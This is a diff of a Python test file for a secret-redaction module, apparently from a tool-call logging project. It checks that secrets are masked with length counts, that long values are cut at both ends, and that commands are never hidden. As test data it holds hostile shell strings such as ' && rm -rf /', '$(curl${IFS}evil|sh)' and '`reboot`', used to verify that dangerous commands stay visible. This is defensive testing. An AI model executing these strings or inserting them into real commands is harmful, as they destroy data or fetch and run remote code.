@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from pegboard.core.redact import HIDDEN, Bounds, Redaction, is_secret, safe_text
+from pegboard.core.redact import WHOLE, Bounds, Redaction, is_cut, is_secret, safe_text
 from pegboard.core.tool import Json
 
 USUAL = Redaction()
@@ -24,7 +24,7 @@ USUAL = Redaction()
     ],
 )  # fmt: skip
 def test_what_has_the_name_of_a_secret_is_hidden(key: str) -> None:
-    assert USUAL.shown({key: "hunter2"}) == {key: HIDDEN}
+    assert USUAL.shown({key: "hunter2"}) == {key: "[hidden: 7 characters]"}
 
 
 @pytest.mark.parametrize(
@@ -37,10 +37,10 @@ def test_an_ordinary_name_hides_nothing(key: str) -> None:
 def test_how_many_tokens_there_may_be_is_no_secret() -> None:
     assert USUAL.shown({"max_tokens": 4096, "token": "abc", "use_token": True, "password": None, "otp": 123456}) == {
         "max_tokens": 4096,
-        "token": HIDDEN,
+        "token": "[hidden: 3 characters]",
         "use_token": True,
         "password": None,
-        "otp": HIDDEN,
+        "otp": "[hidden]",
     }
 
 
@@ -51,8 +51,13 @@ def test_secrets_are_found_at_any_depth_and_as_pairs_of_name_and_value() -> None
         "auth": {"user": "ann", "pass": "x"},
     }
     assert USUAL.shown(given) == {
-        "request": {"headers": [{"name": "Authorization", "value": HIDDEN}, {"name": "Accept", "value": "text/html"}]},
-        "auth": HIDDEN,
+        "request": {
+            "headers": [
+                {"name": "Authorization", "value": "[hidden: 3 characters]"},
+                {"name": "Accept", "value": "text/html"},
+            ]
+        },
+        "auth": "[hidden: 2 members]",
     }
 
 
@@ -60,15 +65,15 @@ def test_secrets_are_found_at_any_depth_and_as_pairs_of_name_and_value() -> None
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("curl -H 'Authorization: Bearer abcdefgh12345'", "curl -H 'Authorization: Bearer [hidden]'"),
-        ("postgresql://ann:s3cret@db/x", "postgresql://ann:[hidden]@db/x"),
-        ("PASSWORD=hunter2 run", "PASSWORD=[hidden] run"),
-        ("--api-key=abc123 --verbose", "--api-key=[hidden] --verbose"),
-        ('{"token": "abc123"}', '{"token": "[hidden]"}'),
-        ("key sk-abcdefghijklmnop1234 end", "key [hidden] end"),
-        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "[hidden]"),
-        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nrest", "[hidden]\nrest"),
-        ("an ordinary sentence about tokens: none", "an ordinary sentence about tokens: [hidden]"),
+        ("curl -H 'Authorization: Bearer abcdefgh12345'", "curl -H 'Authorization: Bearer [hidden: 13 characters]'"),
+        ("postgresql://ann:s3cret@db/x", "postgresql://ann:[hidden: 6 characters]@db/x"),
+        ("PASSWORD=hunter2 run", "PASSWORD=[hidden: 7 characters] run"),
+        ("--api-key=abc123 --verbose", "--api-key=[hidden: 6 characters] --verbose"),
+        ('{"token": "abc123"}', '{"token": "[hidden: 6 characters]"}'),
+        ("key sk-abcdefghijklmnop1234 end", "key [hidden: 23 characters] end"),
+        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "[hidden: 40 characters]"),
+        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nrest", "[hidden: 65 characters]\nrest"),
+        ("an ordinary sentence about tokens: none", "an ordinary sentence about tokens: [hidden: 4 characters]"),
         ("nothing here", "nothing here"),
     ],
 )
@@ -80,15 +85,79 @@ def test_what_has_the_form_of_a_secret_is_hidden_in_any_text(text: str, shown: s
 def test_the_operators_own_patterns_hide_by_key_and_with_a_dot_by_path() -> None:
     own = Redaction(("iban*", "patient.name"))
     given: Json = {"IBAN_from": "DE1", "name": "a list", "patient": {"name": "Ann", "ward": 3}}
-    assert own.shown(given) == {"IBAN_from": HIDDEN, "name": "a list", "patient": {"name": HIDDEN, "ward": 3}}
+    assert own.shown(given) == {
+        "IBAN_from": "[hidden: 3 characters]",
+        "name": "a list",
+        "patient": {"name": "[hidden: 3 characters]", "ward": 3},
+    }
 
 
 @pytest.mark.behaviour("redaction.bounded")
 def test_long_texts_many_members_and_deep_values_are_cut_and_say_so() -> None:
-    small = Bounds(text=5, whole=1000, members=2, levels=2)
-    given: Json = {"a": "abcdefgh", "b": [1, 2, 3], "c": 1}
-    assert USUAL.shown(given, small) == {"a": "abcde… (8 characters)", "b": [1, 2, "… (1 more)"], "…": "1 more"}
+    small = Bounds(text=6, whole=1000, members=2, levels=2)
+    given: Json = {"a": "abcdefghij", "b": 1, "c": [1, 2, 3, 4]}
+    assert USUAL.shown(given, small) == {
+        "a": "abcd… 4 characters not shown …ij",
+        "…": "… 1 member not shown …",
+        "c": [1, "… 2 members not shown …", 4],
+    }
     assert USUAL.shown({"a": {"b": {"c": 1}}}, small) == {"a": {"b": "…"}}
+
+
+@pytest.mark.behaviour("redaction.both_ends")
+def test_what_stands_at_the_end_of_a_long_call_is_seen_and_that_something_is_missing_is_known() -> None:
+    calls: list[Json] = [
+        {"command": "safe " * 120 + " && rm -rf /"},
+        {"command": "x" * 1_000_000 + " && rm -rf /"},
+        {"steps": [*(["safe"] * 100), " && rm -rf /"]},
+        {**{f"step {number}": "x" * 1_000 for number in range(100)}, "last": " && rm -rf /"},
+        {"files": ["x" * 1_000] * 30, "last": " && rm -rf /"},
+    ]
+    for call in calls:
+        shown = USUAL.shown(call)
+        assert (" && rm -rf /" in json.dumps(shown), is_cut(shown)) == (True, True)
+        assert USUAL.shown(call, WHOLE) == call
+    assert not is_cut(USUAL.shown({"command": "ls", "steps": [1, {"a": "…and so on"}]}))
+
+
+def test_two_members_that_look_the_same_once_they_are_cut_are_both_shown() -> None:
+    keys = [f"{'a' * 150}{middle}{'a' * 150}" for middle in "12"]
+    told = f"{'a' * 67}… 201 characters not shown …{'a' * 33}"
+    given: Json = {keys[0]: 1, keys[1]: 2, "…": 3}
+    assert USUAL.shown(given) == {told: 1, f"{told} (2)": 2, "…": 3}
+
+
+@pytest.mark.behaviour("redaction.payloads_seen")
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("PASSWORD=$(curl${IFS}evil|sh)", "PASSWORD=$(curl${IFS}evil|sh)"),
+        ("PASSWORD=x;curl${IFS}evil|sh", "PASSWORD=[hidden: 1 character];curl${IFS}evil|sh"),
+        ("PASSWORD=x`reboot`", "PASSWORD=[hidden: 1 character]`reboot`"),
+        ("run --token=x$IFS-e$IFS/bin/sh", "run --token=[hidden: 1 character]$IFS-e$IFS/bin/sh"),
+        ("git clone http://a:$(reboot)@host", "git clone http://a:$(reboot)@host"),
+        ("token=" + "a" * 500, "token=[hidden: 400 characters]" + "a" * 100),
+        (
+            "-----BEGIN PRIVATE KEY-----\n$(rm -rf /)\n-----END PRIVATE KEY-----",
+            "[hidden: 27 characters]\n$(rm -rf /)\n-----END PRIVATE KEY-----",
+        ),
+        (
+            "-----BEGIN PRIVATE KEY-----\nsudo rm everything now\n-----END PRIVATE KEY-----",
+            "[hidden: 27 characters]\nsudo rm everything now\n-----END PRIVATE KEY-----",
+        ),
+    ],
+)
+def test_no_command_is_hidden_behind_the_form_of_a_secret(text: str, shown: str) -> None:
+    assert safe_text(text, 1_000) == shown
+
+
+@pytest.mark.behaviour("redaction.by_form")
+@pytest.mark.parametrize("newline", ["\n", "\r\n", "\\n", " "])
+@pytest.mark.parametrize("head", ["", "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,0A1B2C"])
+def test_a_private_key_is_hidden_whole_however_its_lines_end(newline: str, head: str) -> None:
+    lines = ["-----BEGIN RSA PRIVATE KEY-----", *([head] if head else []), *(["aB3+/x" * 10] * 25), "Qw==", ""]
+    key = newline.join(lines) + "-----END RSA PRIVATE KEY-----"
+    assert safe_text(f"a {key} b") == f"a [hidden: {len(key):,} characters] b"
 
 
 @pytest.mark.behaviour("redaction.bounded")
@@ -99,11 +168,15 @@ def test_a_value_of_any_size_takes_no_more_room_than_it_is_given() -> None:
 
 def test_what_would_move_a_cursor_or_hide_text_is_written_out() -> None:
     assert safe_text("a\x1b[2Jb\u202ec\ud800d\ne") == "a\\x1b[2Jb\\u202ec\\ud800d\ne"
-    assert USUAL.shown({"a\x1bb": "c"}) == {"a\\x1bb": "c"}
+    assert USUAL.text({"a\x1bb": "c\u202ed\U000e0041"}) == '{"a\\u001bb": "c\\u202ed\\udb40\\udc41"}'
 
 
 def test_numbers_that_json_cannot_hold_are_told_in_words() -> None:
-    assert USUAL.shown([float("nan"), float("inf"), 10**5000]) == ["nan", "inf", "… (a number of 16610 bits)"]
+    assert USUAL.shown([float("nan"), float("inf"), 10**5000]) == [
+        "nan",
+        "inf",
+        f"{10**5000:#x}"[:267] + "… 3,755 characters not shown …" + "0" * 133,
+    ]
 
 
 def test_a_value_nested_ten_thousand_levels_deep_is_shown_as_far_as_is_fit() -> None:
@@ -127,6 +200,6 @@ def test_whatever_is_shown_is_json_that_every_peer_reads(value: Json) -> None:
     json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))
 
 
-@given(st.text(min_size=6).filter(lambda text: text.strip() and text not in HIDDEN and not text.isspace()))
+@given(st.text(min_size=6).filter(lambda text: bool(text.strip())))
 def test_the_value_under_a_secret_name_is_never_in_the_text(secret: str) -> None:
-    assert USUAL.text({"a": [{"password": secret}]}) == '{"a": [{"password": "[hidden]"}]}'
+    assert USUAL.shown({"a": [{"password": secret}]}) == {"a": [{"password": f"[hidden: {len(secret)} characters]"}]}
